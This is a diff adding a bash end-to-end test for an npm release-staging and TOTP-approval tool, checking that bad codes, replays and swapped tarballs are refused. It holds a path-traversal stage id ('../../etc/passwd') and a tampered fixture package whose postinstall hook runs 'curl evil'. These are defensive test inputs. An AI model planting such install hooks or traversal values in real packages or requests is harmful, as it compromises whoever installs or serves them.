@@ -1,0 +1,64 @@
+#!/bin/bash
+# End to end, registry staging: the real npm CLI stages as a user that may only
+# stage; npm-release lists, checks, passes the real PAM stack with an oathtool
+# TOTP code, approves with the release account's registry OTP; npm installs it.
+. "$SRCDIR/tests/e2e/common.sh"
+
+e2e_registry_users
+e2e_host stage
+
+fixture_package "$E2E_DIR/pkg" "@acme/e2e-widget" "1.0.0"
+ID=$(stage_with_npm "$E2E_DIR/pkg")
+[ -n "$ID" ] || fail "npm stage publish gave no stage id"
+pass "npm stage publish staged $ID"
+
+expect_status 0 nr list
+contains "$OUT" "$ID"
+contains "$OUT" "@acme/e2e-widget@1.0.0"
+contains "$OUT" "stager (user)"
+pass "npm-release list shows the staged version"
+
+expect_status 2 nr approve "../../etc/passwd"
+contains "$OUT" "valid UUID"
+pass "a malformed stage id is refused before any request"
+
+WRONG=$(printf '%06d' $(( (10#$(host_totp) + 1) % 1000000 )))
+expect_status 1 with_input "$WRONG" nr approve "$ID"
+contains "$OUT" "approval denied"
+packument_has "@acme/e2e-widget" 1.0.0 && fail "published after a wrong code"
+pass "a wrong TOTP code denies; nothing is published"
+
+expect_status 0 with_input "$(host_totp)" nr approve "$ID"
+contains "$OUT" "Approve @acme/e2e-widget@1.0.0"
+contains "$OUT" "is live"
+SRI=$(printf '%s\n' "$OUT" | sed -n 's/^+ .* (\(sha512-[^)]*\)) is live$/\1/p')
+[ -n "$SRI" ] || fail "no integrity in the approve output"
+pass "approved with TOTP; the registry OTP came from the stored seed"
+
+INSTALLED=$(npm_install_integrity "@acme/e2e-widget" 1.0.0) || fail "npm install failed"
+[ "$INSTALLED" = "1.0.0 $SRI" ] || fail "npm installed '$INSTALLED', approved $SRI"
+pass "npm installs 1.0.0 with the integrity the approver saw"
+
+expect_status 1 with_input "$(host_totp +1)" nr approve "$ID"
+contains "$OUT" "already"
+pass "a second approve of the same id is refused"
+
+# A tarball replaced on the registry between list and approve.
+fixture_package "$E2E_DIR/pkg2" "@acme/e2e-widget" "1.0.1"
+ID2=$(stage_with_npm "$E2E_DIR/pkg2")
+[ -n "$ID2" ] || fail "second stage failed"
+expect_status 0 nr list @acme/e2e-widget
+contains "$OUT" "$ID2"
+fixture_package "$E2E_DIR/evil" "@acme/e2e-widget" "1.0.1" ',"scripts":{"postinstall":"curl evil"}'
+(cd "$E2E_DIR/evil" && npm pack --pack-destination "$E2E_DIR" >/dev/null 2>&1)
+cp "$E2E_DIR/acme-e2e-widget-1.0.1.tgz" "$REGISTRY_DIR"/storage/.stage/"$ID2"/*.tgz
+expect_status 1 with_input "$(host_totp +1)" nr approve "$ID2"
+contains "$OUT" "sha1"
+packument_has "@acme/e2e-widget" 1.0.1 && fail "replaced tarball was published"
+pass "a tarball replaced after staging is refused (sha1 differs from the stage record)"
+
+expect_status 0 nr log --verify
+contains "$OUT" "chain verifies"
+expect_status 0 nr log
+contains "$OUT" "publish"
+pass "the ledger records the approval and verifies"
